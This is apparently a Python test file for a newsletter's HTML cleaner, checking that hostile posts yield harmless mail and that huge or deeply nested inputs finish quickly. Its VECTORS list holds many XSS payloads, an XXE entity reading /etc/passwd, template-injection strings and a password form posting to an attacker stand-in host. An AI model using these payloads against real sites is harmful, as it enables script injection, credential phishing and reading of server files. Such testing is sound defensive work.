"""Hostile posts: no active markup reaches a reader, and nothing takes for ever."""

from __future__ import annotations

import string
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as lxml_html

from newsletter import merge
from newsletter.cleaning import Uncleanable, clean, split_posts
from newsletter.gathered import Form, Item
from newsletter.render import Kit, open_kit, render_issue
from tests.render_samples import (
    NEWSLETTER,
    NO_CALL,
    ROSTER,
    TEMPLATES,
    make_issue,
    make_update,
    render_body,
)
from tests.test_cleaning import HOUSE, clean_html, clean_text

NEWS = "Exports of small towns fall, and nobody there is surprised by it."

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="https://x.example/) onclick=alert(1) (">x</a>',
    '<a href="https://x.example/&quot;onmouseover=alert(1)//">x</a>',
    "<a href='https://x.example/>\"<script>alert(1)</script>'>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<base href=https://evil.example/><a href=x>y</a>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&amp;amp;lt;script&amp;amp;gt;alert(1)",
    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "<p>[x](javascript:alert(1))</p>",
    "<p>![x](javascript:alert(1))</p>",
    "<p>[x]: javascript:alert(1)</p><p>[x]</p>",
    "<p>&lt;javascript:alert(1)&gt;</p>",
    "<p>`</p><p><b>`&lt;img src=x onerror=alert(1)&gt;`</b></p>",
    "<img alt='](javascript:alert(1)) ![' src='https://x.example/a.png'>",
    "<img alt='\"><script>alert(1)</script>' src='https://x.example/a.png'>",
    "<pre>&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;</pre>",
    "<table><tr><td>&lt;script&gt;</td><td>|</td></tr><tr><td>a</td><td>b</td></tr></table>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><p>&e;</p>',
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt></p>",
    "<p>\U00100002click\U00100100 \U0010fffd</p>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p>{{ 7*7 }} {% include 'x' %} {# x #} ${7*7} &lt;%= 7*7 %&gt;</p>",
]
SAFE_SCHEMES = ("https://", "http://", "mailto:", "{{", "#", "cid:")


@pytest.fixture(scope="module")
def kit(tmp_path_factory: pytest.TempPathFactory) -> Kit:
    return open_kit([TEMPLATES], tmp_path_factory.mktemp("cache"))


def assert_harmless(html: str) -> None:
    tree = lxml_html.document_fromstring(html)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in ("script", "iframe", "object", "embed", "form", "svg", "base")
        for name, value in element.attrib.items():
            assert not name.startswith("on"), (element.tag, name, value)
            if name in ("href", "src", "action", "background"):
                assert value.lower().startswith(SAFE_SCHEMES), (name, value)


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("form", ["html", "markdown", "text"])
def test_no_active_markup_reaches_the_mail(vector: str, form: Form, kit: Kit) -> None:
    item = Item(title=vector, content=vector, form=form, address="https://x.example/a")
    cleaned = clean(item, house=HOUSE)
    issue = make_issue(make_update(title=cleaned.title or "x", body=cleaned.body))
    assert_harmless(render_issue(issue, [NO_CALL], NEWSLETTER, ROSTER, kit).html)


MARKUP = st.lists(
    st.one_of(
        st.sampled_from(VECTORS),
        st.sampled_from(["<p>", "</p>", "<b>", "</b>", "<a>", "<ul>", "<li>", "<blockquote>"]),
        st.sampled_from(["</blockquote>", "<pre>", "<td>", "<h2>", "</h2>", "<br>"]),
        st.text(string.printable + "“”‘’…–\xa0\u200b\U00100000", max_size=12),
    ),
    max_size=12,
).map("".join)


@given(MARKUP)
def test_any_markup_becomes_a_harmless_mail(kit: Kit, html: str) -> None:
    cleaned = clean_html(html)
    assert_harmless(render_body(cleaned.body, kit).html)
    assert not list(merge.find(cleaned.body.replace("\\{{", "")))


@given(st.text(max_size=200))
def test_any_text_is_cleaned_or_refused(text: str) -> None:
    for form in ("text", "html", "markdown"):
        with suppress(Uncleanable):
            item = Item(title=text, content=text, form=form)  # type: ignore[arg-type]
            assert isinstance(clean(item, house=HOUSE).body, str)
            assert len(split_posts(text, house=HOUSE, form=form)) <= 200  # type: ignore[arg-type]


@pytest.mark.parametrize("form", ["text", "html", "markdown"])
@pytest.mark.parametrize("text", ["**", "__", f"A\n\n**\n\n{NEWS}", f"{NEWS}\n\n__\n\n__\n\nB"])
def test_lines_of_mere_marks_hinder_nobody(text: str, form: str) -> None:
    item = Item(title="A", content=text, form=form)  # type: ignore[arg-type]
    with suppress(Uncleanable):
        assert NEWS in clean(item, house=HOUSE).body or NEWS not in text
    assert len(split_posts(text, house=HOUSE, form=form)) <= 2  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "written",
    [
        *(
            "{{ 7*7 }}",
            "{{ web_url }}",
            "{{unsubscribe_url}}",
            "{{{ web_url }}}",
            "\\{{ web_url }}",
        ),
        *(
            '{{ subscriber.first_name | fallback("you") }}',
            "{% include 'x' %}",
            "*stars* _under_ `tick`",
        ),
        *(
            "# no heading",
            "1. no list",
            "- no list",
            "a | b",
            "[a](b) [c][d] ![e](f)",
        ),
        *(
            "<b>no tag</b>",
            "http://x.example/?a=1&b=2",
            "C:\\x\\*",
            "wow![x]",
        ),
        *(
            "=====",
            "---",
            "+ plus",
            "a_b_c __d__",
            "2 < 3 > 1",
            "1) one",
            "#hash",
            "~~~",
            "\\",
            "a\\",
        ),
    ],
)
def test_text_arrives_as_it_was_written(written: str, kit: Kit) -> None:
    cleaned = clean_text(f"Before it.\n{written} and so on, as it was.")
    mail = render_body(cleaned.body, kit)
    shown = merge.split(mail.html, "html").fill(
        {name: f"https://x.example/{name}" for name in merge.URL_TAGS}
    )
    text = " ".join(lxml_html.document_fromstring(shown).text_content().split())
    assert f"{written} and so on, as it was." in text


LONG = {
    "deep": "<div>" * 100_000 + "x",
    "deep quotes": "<blockquote>" * 20_000 + "x",
    "deep lists": "<ul><li>" * 20_000 + "x",
    "deep emphasis": "<b><i>" * 20_000 + "x",
    "links": "<a href=x>y" * 10_000,
    "tables": "<table><tr><td>" * 10_000,
    "attributes": "<p " + " ".join(f"a{n}=1" for n in range(50_000)) + ">x",
    "brackets": "[" * 45_000,
    "signs": "<" * 45_000,
    "stars": "*_`" * 15_000,
    "quotes": "“" * 100_000,
    "stops": "a." * 100_000,
    "capitals": "Aa " * 50_000,
    "shares": "<p>" + "share " * 50 + "</p>",
    "calls": "<p>Get in touch.</p>" * 1000,
    "labels": "<p>China Daily:</p>" * 1000,
    "references": "&amp;#8217;" * 20_000,
    "misread": "â€™" * 20_000,
    "breaks": "x<br>" * 50_000,
    "spaces": "\xa0 " * 50_000,
    "short codes": "[caption]" * 20_000,
}


@pytest.mark.parametrize("name", LONG)
@pytest.mark.parametrize("form", ["html", "text"])
def test_long_and_deep_posts_end_soon(name: str, form: Form) -> None:
    """Each took minutes with one rule or limit less; all of them together take seconds."""
    cleaned = clean(Item(title="A title", content=LONG[name], form=form), house=HOUSE)
    assert len(cleaned.body) < 2_000_000
    assert len(cleaned.repairs) <= 200


def test_what_is_too_long_or_no_text_is_refused() -> None:
    with pytest.raises(Uncleanable, match=r"has 10,000,000 characters, at most 1,000,000 are read"):
        clean_html("<p>x</p>\n\n" * 1_000_000)
    with pytest.raises(Uncleanable, match="at most 50,000"):
        clean(Item(title="x", content="x" * 50_001, form="markdown"), house=HOUSE)
    with pytest.raises(Uncleanable, match=r"has 3,001 paragraphs"):
        clean_html("<p>Words</p>" * 3001)
    with pytest.raises(Uncleanable, match="the post is no text"):
        clean_html(bytes(range(256)).decode("latin-1") * 10)
    with pytest.raises(Uncleanable, match="the page has"):
        split_posts("x" * 10_000_001, house=HOUSE, form="html")


def test_a_picture_as_data_counts_for_nothing() -> None:
    html = f'<p>Words.</p><img src="data:image/png;base64,{"A" * 3_000_000}">'
    assert clean_html(html).body == "Words."


def test_null_bytes_and_other_controls_go_and_are_told() -> None:
    cleaned = clean_text("One\x00 word\x07 and\u200b more of it.")
    assert cleaned.body == "One word and more of it."
    assert [repair.rule for repair in cleaned.repairs] == ["unseen-character"]
